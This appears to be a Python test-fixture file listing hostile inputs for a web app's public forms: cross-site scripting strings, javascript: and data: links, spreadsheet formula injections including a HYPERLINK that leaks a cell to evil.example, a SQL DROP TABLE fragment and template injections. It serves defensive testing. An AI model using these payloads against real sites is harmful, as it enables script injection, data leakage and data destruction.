"""The hostile inputs every public form is given, and the marks they must never leave.

Each payload is what an attacker would type into a name, a text or a link; ``LINKS`` are the
ones aimed at fields that become an ``href``. ``FORMULA_TRIGGERS`` are the first characters
that make a spreadsheet run a cell (OWASP "CSV Injection").
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    name: str
    text: str


PAYLOADS = [
    Payload("script tag", "<script>window.__pwned=1;alert(1)</script>"),
    Payload("img onerror", "<img src=x onerror=alert(1)>"),
    Payload("attribute breakout", '" onmouseover="alert(1)" x="'),
    Payload("single-quote breakout", "' autofocus onfocus='alert(1)"),
    Payload("svg onload", "<svg onload=alert(1)>"),
    Payload("svg slash onload", "<svg/onload=alert(1)//"),
    Payload("closing textarea", "</textarea><script>alert(1)</script>"),
    Payload("closing title", "</title><script>alert(1)</script>"),
    Payload("javascript link text", '<a href="javascript:alert(1)">me</a>'),
    Payload("iframe", '"><iframe src="javascript:alert(1)"></iframe>'),
    Payload("javascript scheme", "javascript:alert(1)"),
    Payload("formula hyperlink", '=HYPERLINK("https://evil.example/?"&A1,"Open")'),
    Payload("formula cmd", "+cmd|' /C calc'!A0"),
    Payload("formula minus", "-2+3+cmd|' /C calc'!A0"),
    Payload("formula at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Payload("formula after spaces", "  =1+1"),
    Payload("rtl override", "Ada \u202eevoL\u202c"),
    Payload("zero-width", "A\u200bd\u200da\ufeff Lovelace"),
    Payload("ten thousand characters", "A" * 10_000),
    Payload("longer once folded", ("Weiß-Strauß " * 10).strip()),
    Payload("sql fragment", "Robert'); DROP TABLE signatures_signature; --"),
    Payload("percent nul", "Ada%00Lovelace"),
    Payload("template variable", "{{ 7*7 }} {{ request.user.email }}"),
    Payload("template tag", "{% debug %}{% load log %}"),
    Payload("html entities", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;"),
    Payload("markdown link", "[click](javascript:alert(1)) ![x](https://evil.example/x.png)"),
]

# Aimed at the fields that end up in an ``href``.
LINKS = [
    Payload("javascript link", "javascript:alert(1)"),
    Payload("javascript link, mixed case", "JaVaScRiPt:alert(document.domain)"),
    Payload("javascript link, spaced", "  javascript:alert(1)"),
    Payload("javascript link, tab", "java\tscript:alert(1)"),
    Payload("javascript link, entity", "javascript&colon;alert(1)"),
    Payload("data link", "data:text/html,<script>alert(1)</script>"),
    Payload("vbscript link", "vbscript:msgbox(1)"),
    Payload("link breaking out", 'https://example.org/"><script>alert(1)</script>'),
    Payload("link with svg in query", "https://example.org/?q=<svg onload=alert(1)>"),
    Payload("link with quote in path", "https://example.org/x'onmouseover='alert(1)"),
    Payload("link with formula", '=HYPERLINK("https://evil.example")'),
    Payload("link with rtl override", "https://example.org/\u202egpj.exe"),
    Payload("link with credentials", "https://user:pass@evil.example/"),
]

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
